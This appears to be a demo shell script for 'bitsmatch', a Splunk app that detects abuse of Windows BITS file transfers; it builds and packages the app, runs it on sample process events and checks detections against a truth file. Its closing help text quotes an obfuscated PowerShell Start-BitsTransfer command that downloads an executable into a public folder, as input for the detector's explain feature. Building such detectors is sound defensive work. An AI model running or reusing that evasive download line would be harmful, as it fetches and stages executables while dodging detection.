#!/usr/bin/env bash
# Builds and packages the app, then runs the packaged program on the app's sample events as splunkd
# would. Installs what is missing (Debian, Ubuntu); a second run takes seconds.
set -euo pipefail
cd "$(dirname "$0")/.."
# shellcheck source=scripts/common.sh
. scripts/common.sh

say "1/4  Packages"
install_missing "${build_packages[@]}"
scripts/fetch_cpp_httplib.sh

say "2/4  Build the release and make the package"
./package.sh

say "3/4  Unpack it, as Splunk would"
rm -rf build/demo
mkdir -p build/demo
tar -xzf dist/bitsmatch.tgz -C build/demo
app=build/demo/bitsmatch
ls -l "$app/linux_x86_64/bin"

say "4/4  A morning's process events through | bitsmatch"
echo "The stand-in for splunkd starts the packaged program, asks it with getinfo which fields it"
echo "needs, sends these in chunks, and lays the answers over its own rows."
echo
build/release/bin/search-head run --csv "$app/samples/process_events.csv" --chunk-rows 500 \
  --columns dest,process,bits_direction,bits_risk_score,bits_obfuscation --width "${COLUMNS:-120}" \
  -- "$app/linux_x86_64/bin/bitsmatch"

truth=$app/samples/process_events_truth.csv
abuses=$(grep -c ',abuse,' "$truth")
rollouts=$(grep -c ',software-rollout,' "$truth")
matches=$("$app/linux_x86_64/bin/bitsmatch" scan --output json "$app/samples/process_events.csv" | wc -l)
if ((matches != abuses + rollouts)); then
  echo "demo.sh: $matches matches, where the samples hold $((abuses + rollouts)) transfers." >&2
  exit 1
fi
echo
echo "That is each of the $abuses abuses in the samples, and $rollouts transfers that are in order: a management"
echo "agent fetches installers. An allow list makes such transfers score less."

cat <<TEXT

What to do next
  The package for Splunk is dist/bitsmatch.tgz (README.md, "Install").
  The same engine from a shell: $app/linux_x86_64/bin/bitsmatch scan $app/samples/sysmon.xml
  What one command line hides and does: $app/linux_x86_64/bin/bitsmatch explain \\
    'powershell -c "St\`Art-BitsT\`ransfer https://example.com/a.exe C:\Users\Public\a.exe"'
TEXT
